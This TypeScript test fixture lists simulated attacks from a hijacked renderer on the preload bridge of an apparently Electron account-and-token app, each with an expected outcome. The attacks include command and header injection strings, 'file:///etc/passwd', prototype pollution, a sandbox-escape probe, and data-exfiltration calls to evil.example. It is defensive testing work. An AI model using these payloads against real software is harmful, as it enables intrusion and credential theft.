/**
 * What has to come of an attack:
 *
 * - `refused`: main says no, in the one word it has for that
 * - `stopped`: it does not even leave the page
 * - `nothing`: it is answered as a request about nothing is, and does nothing
 */
export type Outcome = 'refused' | 'stopped' | 'nothing';

/** The bridge as a hostile script sees it. */
type Loose = Readonly<Record<string, (...args: readonly unknown[]) => unknown>>;

/** Runs in the page, as source text; every step must have the outcome. */
export interface PageAttack {
  /** "A renderer that was taken over …" */
  readonly sentence: string;
  readonly outcome: Outcome;
  readonly steps: (bridge: Loose) => readonly (() => unknown)[];
}

export const PAGE_ATTACKS: readonly PageAttack[] = [
  {
    sentence: 'sends numbers, arrays and nothing where an account key belongs',
    outcome: 'refused',
    steps: ({ signOut, refreshNow, selectAccount }) => [
      () => signOut?.(42),
      () => signOut?.(['github.com/1']),
      () => refreshNow?.(),
      () => selectAccount?.(null),
      () => signOut?.({ toString: 'github.com/1' }),
    ],
  },
  {
    sentence: 'sends an account key of a million characters',
    outcome: 'refused',
    steps: ({ signOut, copyToken }) => [
      () => signOut?.('x'.repeat(1_000_000)),
      () => copyToken?.({ accountKey: 'x'.repeat(1_000_000), format: 'token' }),
    ],
  },
  {
    sentence: 'sends the empty string and the shortest ones',
    outcome: 'refused',
    steps: ({ signOut, addHost, startSignIn }) => [
      () => signOut?.(''),
      () => signOut?.('/'),
      () => addHost?.(''),
      () => startSignIn?.({ host: '', accountKey: null }),
    ],
  },
  {
    sentence: 'signs out, renews, selects and copies accounts that are not here',
    outcome: 'nothing',
    steps: ({ signOut, refreshNow, selectAccount, copyToken, copyRefusal }) =>
      ['github.com/1', '*/*', '../vault', '__proto__', 'constructor', '%00/1'].flatMap((key) => [
        () => signOut?.(key),
        () => refreshNow?.(key),
        () => selectAccount?.(key),
        () => copyToken?.({ accountKey: key, format: 'token' }),
        () => copyRefusal?.(key),
      ]),
  },
  {
    sentence: 'asks for formats that do not exist',
    outcome: 'refused',
    steps: ({ copyToken }) =>
      ['exe', '__proto__', 'constructor', 'token; rm -rf ~', 'sh\n', '', 'TOKEN'].map(
        (format) => () => copyToken?.({ accountKey: 'github.com/1', format }),
      ),
  },
  {
    sentence: 'opens addresses instead of links by name',
    outcome: 'refused',
    steps: ({ openLink }) =>
      [
        'https://evil.example/',
        'javascript:alert(1)',
        'file:///etc/passwd',
        'smb://evil.example/x',
        '__proto__',
        'toString',
      ].map((link) => () => openLink?.({ link, accountKey: null })),
  },
  {
    sentence: 'opens links of accounts and sign-ins that do not exist',
    outcome: 'nothing',
    steps: ({ openLink, copyLink, copyCode, copyCodeAndOpen }) => [
      () => openLink?.({ link: 'verification', accountKey: null }),
      () => openLink?.({ link: 'refusal', accountKey: 'github.com/1' }),
      () => copyLink?.(),
      () => copyCode?.(),
      () => copyCodeAndOpen?.(),
    ],
  },
  {
    sentence: 'signs in at addresses that are no hosts',
    outcome: 'nothing',
    steps: ({ startSignIn }) =>
      [
        'javascript:alert(1)',
        'data:text/html,x',
        'file:///etc/passwd',
        'https://user:password@github.com/',
        'github.com@evil.example',
        'github.com:8443',
        '169.254.169.254',
        '2130706433',
        'xn--gthub-n4a.com',
        'gіthub.com',
        'github.com\r\nHost: evil.example',
        '[::ffff:127.0.0.1]',
      ].map((host) => () => startSignIn?.({ host, accountKey: null })),
  },
  {
    sentence: 'adds hosts that are none',
    outcome: 'nothing',
    steps: ({ addHost }) =>
      ['javascript:alert(1)', 'http://', '10.0.0.1', 'a', '..', 'evil@github.com'].map(
        (host) => () => addHost?.(host),
      ),
  },
  {
    sentence: 'smuggles hosts that are none into the settings',
    outcome: 'nothing',
    steps: ({ changeSettings }) => [
      () => changeSettings?.({ hosts: ['javascript:alert(1)', '10.0.0.1', 'user@evil.example'] }),
    ],
  },
  {
    sentence: 'changes settings that have commands of their own',
    outcome: 'refused',
    steps: ({ changeSettings }) => [
      () => changeSettings?.({ allowUnprotectedStorage: true }),
      () => changeSettings?.({ defaultAccountKey: 'github.com/1' }),
      () => changeSettings?.({ introductionSeen: false }),
      () => changeSettings?.({ admin: true }),
    ],
  },
  {
    sentence: 'sets numbers outside their bounds',
    outcome: 'refused',
    steps: ({ changeSettings }) =>
      [-1, 0.5, 1e9, Number.NaN, Number.POSITIVE_INFINITY, '30', 30n, [30], null].map(
        (clipboardSeconds) => () => changeSettings?.({ clipboardSeconds }),
      ),
  },
  {
    sentence: 'makes itself as high as a tower, and as small as nothing',
    outcome: 'refused',
    steps: ({ fitWindow }) =>
      [0, 299, 641, -1, 1e9, 400.5, Number.NaN, '400', [400], {}].map(
        (heightPx) => () => fitWindow?.(heightPx),
      ),
  },
  {
    sentence: 'makes the text as small as nothing, and as large as a tower',
    outcome: 'refused',
    steps: ({ changeSettings }) =>
      [0, 99, 201, -100, 1e9, 100.5, '100', null].map(
        (textSize) => () => changeSettings?.({ textSize }),
      ),
  },
  {
    sentence: 'names languages and themes after object members',
    outcome: 'refused',
    steps: ({ changeSettings }) => [
      () => changeSettings?.({ language: '__proto__' }),
      () => changeSettings?.({ language: 'constructor' }),
      () => changeSettings?.({ theme: 'toString' }),
    ],
  },
  {
    sentence: 'injects lines and paths through the client id',
    outcome: 'refused',
    steps: ({ changeSettings }) =>
      ['Iv1.a\r\nX-Evil: 1', '../../x', 'a b', '', 'x'.repeat(129), '${jndi:x}'].map(
        (clientId) => () => changeSettings?.({ clientId }),
      ),
  },
  {
    sentence: 'sends a hundred thousand hosts',
    outcome: 'refused',
    steps: ({ changeSettings }) => [
      () => changeSettings?.({ hosts: Array.from({ length: 100_000 }, () => 'a.example') }),
    ],
  },
  {
    sentence: 'sends words where a yes or no belongs',
    outcome: 'refused',
    steps: ({ allowUnprotectedStorage, confirmAccount }) =>
      ['true', 1, null, [], {}].flatMap((answer) => [
        () => allowUnprotectedStorage?.(answer),
        () => confirmAccount?.(answer),
      ]),
  },
  {
    sentence: 'confirms an account while none is asked about',
    outcome: 'nothing',
    steps: ({ confirmAccount, checkNow, cancelSignIn, dismissSignIn }) => [
      () => confirmAccount?.(true),
      () => checkNow?.(),
      () => cancelSignIn?.(),
      () => dismissSignIn?.(),
    ],
  },
  {
    sentence: 'sends values that contain themselves',
    outcome: 'stopped',
    steps: ({ changeSettings, signOut }) => {
      const cycle: Record<string, unknown> = {};
      cycle['hosts'] = [cycle];
      const ring: unknown[] = [];
      ring.push(ring);
      return [() => changeSettings?.(cycle), () => signOut?.(ring)];
    },
  },
  {
    sentence: 'sends what cannot be cloned',
    outcome: 'stopped',
    steps: ({ signOut, changeSettings }) => [
      () => signOut?.(Symbol('github.com/1')),
      () => changeSettings?.({ hosts: [() => 'a.example'] }),
      () => signOut?.(new WeakMap()),
    ],
  },
  {
    sentence: 'sends objects whose fields throw when they are read',
    outcome: 'stopped',
    steps: ({ changeSettings }) => [
      () =>
        changeSettings?.({
          get hosts(): never {
            throw new Error('a trap');
          },
        }),
      () =>
        changeSettings?.(
          new Proxy(
            {},
            {
              ownKeys() {
                throw new Error('a trap');
              },
            },
          ),
        ),
    ],
  },
  {
    sentence: 'sends nested arrays of ten thousand levels',
    outcome: 'stopped',
    steps: ({ changeSettings }) => {
      let deep: unknown[] = [];
      for (let level = 0; level < 10_000; level++) deep = [deep];
      return [() => changeSettings?.({ hosts: deep })];
    },
  },
  {
    sentence: 'sends buffers, dates, maps and boxed strings',
    outcome: 'refused',
    steps: ({ signOut }) => [
      () => signOut?.(new Uint8Array(1_000)),
      () => signOut?.(new Date(0)),
      () => signOut?.(new Map([['key', 'github.com/1']])),
      () => signOut?.(new Error('github.com/1')),
    ],
  },
  {
    sentence: 'pollutes prototypes through a verb',
    outcome: 'refused',
    steps: ({ changeSettings, openLink }) => [
      () => changeSettings?.(JSON.parse('{"constructor":{"prototype":{"polluted":1}}}')),
      () => changeSettings?.({ prototype: { polluted: 1 } }),
      () => openLink?.({ link: { __proto__: { polluted: 1 } }, accountKey: null }),
    ],
  },
  {
    sentence: 'redefines, extends and deletes the bridge',
    outcome: 'stopped',
    steps: (bridge) => [
      () => Object.defineProperty(window, 'pilotLight', { value: {} }),
      () => Object.defineProperty(bridge, 'getView', { value: () => 'forged' }),
      () => Object.defineProperty(bridge, 'evil', { value: 1 }),
      () => Object.setPrototypeOf(bridge, { evil: 1 }),
      () => {
        if (!Reflect.deleteProperty(window, 'pilotLight')) throw new TypeError('not deleted');
      },
      () => {
        if (!Reflect.deleteProperty(bridge, 'getView')) throw new TypeError('not deleted');
      },
    ],
  },
  {
    sentence: 'looks for a way from a verb to the world that it comes from',
    outcome: 'stopped',
    steps: (bridge) =>
      ['ipcRenderer', 'require', 'process', '__standInIpc', '__standInIpcRenderer'].map(
        (name) => () => {
          const Foreign = bridge['getView']?.constructor as FunctionConstructor;
          // oxlint-disable-next-line typescript/no-implied-eval -- an attack
          const found: unknown = Foreign(`return typeof ${name}`)();
          if (found === 'undefined') throw new Error('not there');
          return found;
        },
      ),
  },
  {
    sentence: 'listens with what is no function',
    outcome: 'nothing',
    steps: ({ onView, onScreen }) =>
      [null, 42, 'alert(1)', {}].flatMap((listener) => [
        () => void onView?.(listener),
        () => void onScreen?.(listener),
      ]),
  },
  {
    sentence: 'forges announcements by messages and events',
    outcome: 'nothing',
    steps: () => {
      const view = { accounts: [{ key: 'x/1', person: { login: 'mallory' } }] };
      return [
        () => window.postMessage(['view:changed', view], '*'),
        () => window.postMessage({ channel: 'view:changed', args: [view] }, '*'),
        () => void window.dispatchEvent(new CustomEvent('view:changed', { detail: view })),
        () => void window.dispatchEvent(new MessageEvent('message', { data: view })),
      ];
    },
  },
  {
    sentence: 'goes to other pages, in every way that a script has',
    outcome: 'nothing',
    steps: () => [
      () => location.assign('https://evil.example/'),
      () => location.assign('/index.html?other'),
      () => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(form);
        form.submit();
        form.remove();
      },
      () => {
        const meta = document.createElement('meta');
        meta.httpEquiv = 'refresh';
        meta.content = '0; url=https://evil.example/';
        document.head.append(meta);
        meta.remove();
      },
      () => void window.open('https://evil.example/'),
    ],
  },
  {
    sentence: 'carries data out, in every way that a script has',
    outcome: 'stopped',
    steps: () => [
      () => fetch('https://evil.example/?stolen'),
      () =>
        new Promise((_resolve, reject) => {
          const request = new XMLHttpRequest();
          request.addEventListener('error', () => reject(new Error('refused')));
          request.open('GET', 'https://evil.example/');
          request.send();
        }),
      () =>
        new Promise((_resolve, reject) => {
          const socket = new WebSocket('wss://evil.example/');
          socket.addEventListener('error', () => reject(new Error('refused')));
        }),
      () =>
        new Promise((_resolve, reject) => {
          const source = new EventSource('https://evil.example/');
          source.addEventListener('error', () => reject(new Error('refused')));
        }),
      () =>
        new Promise((_resolve, reject) => {
          const image = new Image();
          image.addEventListener('error', () => reject(new Error('refused')));
          image.src = 'https://evil.example/x.png';
        }),
    ],
  },
  {
    sentence: 'starts workers that would outlive it',
    outcome: 'stopped',
    steps: () => [
      () => new Worker('data:text/javascript,0'),
      () => new SharedWorker('data:text/javascript,0'),
    ],
  },
];
